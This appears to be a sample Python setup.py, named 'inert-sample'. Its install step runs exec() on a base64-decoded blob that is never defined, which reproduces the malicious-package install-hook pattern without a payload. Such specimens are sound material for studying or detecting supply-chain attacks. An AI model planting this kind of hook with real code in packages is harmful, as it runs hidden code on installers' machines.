from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        exec(__import__("base64").b64decode(BLOB))
        install.run(self)

setup(name="inert-sample", version="1.0", cmdclass={"install": Post})
